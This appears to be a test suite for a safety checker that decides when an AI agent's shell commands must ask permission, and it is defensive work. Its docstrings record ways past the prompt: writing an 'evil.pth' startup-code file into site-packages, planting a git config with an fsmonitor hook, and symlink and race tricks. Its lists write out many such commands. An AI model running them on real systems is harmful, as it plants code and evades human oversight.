"""The name a file takes in the folder ``rsync``, ``scp``, a download or a clone puts it in
is judged, and so is a link to a folder that may hold a place.

Found in bypass mode, where only protected paths still ask: ``rsync x.pth site-packages/``,
``rsync -a src/ site-packages/`` (a trailing slash copies what ``src`` holds), ``scp x.pth
site-packages/``, ``wget -P site-packages URL/x.pth``, ``curl -O --output-dir site-packages
URL/x.pth`` and ``cd site-packages && wget URL/x.pth`` wrote a ``.pth`` file, run at every
Python start, unasked: no word of theirs names it whole. So did ``ln -s ~/.config/git g &&
echo x >> g/config``, ``aws s3 cp s3://b/x.pth site-packages/``, ``git clone URL
~/.config/git`` and ``tar -xf a.tar -C ~/.config`` (``a.tar`` holding ``git/config``), as did
``patch -d ~/.config -p1`` of a patch naming ``a/git/config``.
"""

from __future__ import annotations

import io
import tarfile
import zipfile
from pathlib import Path

import pytest
from test_hostile_commands import safety_question

SITE = ".venv/lib/python3.12/site-packages"


@pytest.fixture
def work(tmp_path: Path) -> Path:
    """A working folder with a virtual environment, a hook file and folders of files."""
    (tmp_path / SITE).mkdir(parents=True)
    (tmp_path / "evil.pth").write_text("import os")
    (tmp_path / "evil_site").mkdir()
    (tmp_path / "evil_site" / "evil.pth").write_text("import os")
    (tmp_path / "src").mkdir()
    (tmp_path / "src" / "a.py").write_text("")
    (tmp_path / "backup").mkdir()
    with tarfile.open(tmp_path / "g.tar", "w") as archive:
        archive.addfile(tarfile.TarInfo("git/config"), io.BytesIO())
    with tarfile.open(tmp_path / "p.tar", "w") as archive:
        archive.addfile(tarfile.TarInfo("evil.pth"), io.BytesIO())
    with zipfile.ZipFile(tmp_path / "p.zip", "w") as archive:
        archive.writestr("evil.pth", "import os")
    (tmp_path / "g.diff").write_text("--- a/git/config\n+++ b/git/config\n@@ -0,0 +1 @@\n+[x]\n")
    (tmp_path / "p.diff").write_text("--- /dev/null\n+++ b/evil.pth\n@@ -0,0 +1 @@\n+import os\n")
    return tmp_path


ASKING = [
    f"rsync evil.pth {SITE}/",
    f"rsync evil.pth {SITE}",
    f"rsync -a evil_site/ {SITE}/",
    f"rsync -a evil_site/ {SITE}",
    f"rsync -av --exclude x evil.pth {SITE}/",
    f"rsync -e ssh host:lib/evil.pth {SITE}/",
    f"rsync -a host:lib/ {SITE}/",  # what another machine's folder holds: any name
    "rsync -av config ~/.config/git/",
    f"scp evil.pth {SITE}/",
    f"scp -P 2222 host:evil.pth {SITE}/",
    f"scp -r evil_site/. {SITE}/",
    f"wget -P {SITE} https://example.com/evil.pth",
    f"wget --directory-prefix={SITE} https://example.com/evil.pth",
    f"wget --directory-prefix {SITE} https://example.com/evil%2Epth",
    f"wget -q -P{SITE} https://example.com/evil.pth",
    f"wget -r -P {SITE} https://example.com/",  # recursion: any name
    "wget -P ~/.config/git https://example.com/config",
    f"curl -O --output-dir {SITE} https://example.com/evil.pth",
    f"curl --output-dir {SITE} -sSLO https://example.com/evil.pth",
    f"curl --output-dir {SITE} -o evil.pth https://example.com/x",
    f"curl -OJ --output-dir {SITE} https://example.com/download",  # the server names it
    f"curl -O --output-dir {SITE} 'https://example.com/{{a.txt,evil.pth}}'",  # curl's globs
    f"cd {SITE} && curl -O 'https://example.com/evil.[o-q]th'",
    f"wget -e dir_prefix={SITE} https://example.com/evil.pth",  # a wgetrc command
    f"wget -e recursive=on -P {SITE} https://example.com/",
    f"wget -P {SITE} 'http://[bad/evil.pth'",  # a URL Python cannot split (it raised)
    f"cd {SITE} && wget https://example.com/evil.pth",
    f"cd {SITE} && curl -O https://example.com/evil.pth",
    "cd ~/.config/git && wget https://example.com/config",
    f"busybox wget -P {SITE} https://example.com/evil.pth",
    # A link to a folder that may hold a place: a later word writes through it.
    "ln -s ~/.config/git g && echo x >> g/config",
    f"ln -s {SITE} sp && cp evil.pth sp/",
    "ln -s ~/.config cfg; echo x >> cfg/git/config",
    "ln -sfn ~/.config/git",
    "cp -rs ~/.config/git g && echo x >> g/config",
    # Any other program naming such a folder: the other words' last names land there.
    f"aws s3 cp s3://bucket/evil.pth {SITE}/",
    f"docker cp box:/tmp/evil.pth {SITE}/",
    f"gsutil cp gs://bucket/evil.pth {SITE}",
    f"rclone copy remote:evil.pth {SITE}",
    f"aria2c -d {SITE} https://example.com/evil.pth",
    f"gh release download v1 -p '*.pth' -D {SITE}",
    f"git -C {SITE} checkout evil.pth",
    f"git --work-tree={SITE} checkout HEAD -- evil.pth",
    # An archive's members are judged in the folder they are extracted to (found).
    "tar -xf g.tar -C ~/.config",
    f"tar -C {SITE} -xf p.tar",
    f"tar --directory={SITE} -xf p.tar",
    f"unzip p.zip -d {SITE}",
    f"cd {SITE} && unzip ../../../../p.zip",
    # So are the paths a patch names (found).
    "patch -d ~/.config -p1 -i g.diff",
    f"patch -d {SITE} -p1 -i p.diff",
    f"git apply --directory={SITE} p.diff",
    # A clone checks out files of any name.
    "git clone https://example.com/r.git ~/.config/git",
    "cd ~/.config && git clone https://example.com/git.git",
    "git -C ~/.config clone https://example.com/r.git git",
]


@pytest.mark.parametrize("command", ASKING)
def test_bypass_asks_for_the_name_a_file_takes_in_a_place(command: str, work: Path) -> None:
    assert safety_question(command, work)


ORDINARY = [
    "wget https://example.com/file.tar.gz",
    "wget https://example.com/",
    "wget -P downloads https://example.com/y.zip",
    "wget -q -O - https://example.com/x",
    "wget -r -np https://example.com/docs/",
    "wget -e robots=off -r -np https://example.com/docs/",
    "wget 'http://[bad/x.tgz'",
    "curl -O 'https://example.com/logs/{a,b}.txt'",
    f"curl -g -O --output-dir {SITE} 'https://example.com/x[1].whl'",
    "curl -O https://example.com/file.tar.gz",
    "curl -LO https://github.com/o/r/releases/download/v1/model.pth",
    "curl -sSL https://example.com/install.sh -o install.sh",
    "curl --output-dir backup -o out.json https://example.com/api",
    "cd src && wget https://example.com/a.py",
    "rsync -av src/ backup/",
    "rsync -a src backup/",
    "rsync evil.pth backup/",
    "rsync -avz --delete src/ host:/var/www/",
    f"rsync -a evil.pth host:{SITE}/",  # another machine's
    "rsync -av --exclude node_modules src/ backup/",
    "rsync -e 'ssh -p 2222' -av host:/srv/logs/ backup/",
    "scp evil.pth host:/tmp/",
    "scp host:/tmp/log.txt .",
    "scp -P 2222 -r host:/srv/app/ backup/",
    "install -m 755 src/a.py backup/",
    f"rsync -a {SITE}/ backup/",
    "ln -s ../src/a.py backup/",
    "ln -s src lib",  # a folder holding nothing protected
    "ln -sf src/a.py main.py",
    "ln -sf ~/.config/app/settings.json backup/",
    "git clone https://example.com/r.git",
    "git clone https://example.com/r.git backup/r",
    f"aws s3 cp s3://bucket/model.pth {SITE}/../",
    f"pip install --target {SITE} requests",
    f"docker cp box:/srv/app.log {SITE}/",
    "tar -xf g.tar -C backup",
    "unzip p.zip -d backup",
    "patch -d backup -p1 -i g.diff",
    "git apply --directory=backup p.diff",
]


@pytest.mark.parametrize("command", ORDINARY)
def test_bypass_still_runs_ordinary_copies_and_downloads(command: str, work: Path) -> None:
    assert not safety_question(command, work)


@pytest.fixture
def bare_home(work: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A home folder with ``~/.config`` but no ``~/.config/git`` (settings in ``~/.gitconfig``,
    as most have), and a folder shaped as git's settings folder in the working folder."""
    home = work / "home"
    (home / ".config").mkdir(parents=True)
    monkeypatch.setenv("HOME", str(home))
    (work / "payload" / "git").mkdir(parents=True)
    (work / "payload" / "git" / "config").write_text("[core]\n\tfsmonitor = ./x\n")
    return home


BECOMING = [
    "cp -r payload/git ~/.config/git",
    "cp -rT payload/git ~/.config/git",
    "cp -a payload/git/ ~/.config/git",
    "mv payload/git ~/.config/git",
    "mv -T payload/git ~/.config/git",
    "ln -s {work}/payload/git ~/.config/git",
    "ln -sfn {work}/payload/git ~/.config/git",
    "ln -s {work}/payload/git/config ~/.config/git",
    "cp -r payload/git ~/.config/../.config/git",
]


@pytest.mark.parametrize("command", BECOMING)
def test_bypass_asks_when_a_folder_becomes_a_places_folder(
    command: str, work: Path, bare_home: Path
) -> None:
    """A single source copied, moved or linked to a destination that is not a folder yet
    (or with ``-T``) becomes it: ``~/.config/git`` made from a folder holding ``config``."""
    assert safety_question(command.format(work=work), work)


def test_bypass_still_copies_a_file_or_into_an_existing_folder(work: Path, bare_home: Path) -> None:
    (bare_home / ".config" / "app").mkdir()
    for command in (
        "cp src/a.py ~/.config/git",  # a file named git: git reads no ~/.config/git/config
        "cp -r src ~/.config/app",  # ~/.config/app/src
        "cp -r src backup/src2",
    ):
        assert not safety_question(command, work), command


@pytest.mark.parametrize(
    "command",
    [
        "ln -sfn ~ h",
        "(sleep 5; ln -sfn ~ h) > /dev/null 2>&1 &",
        "ln -s / root",
        "ln -s repo r",
        "mkdir x && ln -s ../repo x/y",
        "ln -s -T ~/ h",
    ],
)
def test_a_link_to_a_folder_holding_a_protected_path_asks(
    command: str, work: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Found in bypass mode: a link to a folder holding a protected path (the home folder, a
    repository, the root) ran unasked. A later command writing through it is checked while
    the link leads where it does; a job left running may change where it leads between that
    check and the run (``mkdir h``, ``rm -rf h/.config`` checked, ``h`` made a link to ``~``)."""
    home = work / "home"
    home.mkdir()
    (home / ".bashrc").write_text("")
    (work / "repo" / ".git").mkdir(parents=True)
    monkeypatch.setenv("HOME", str(home))
    assert safety_question(command, work)
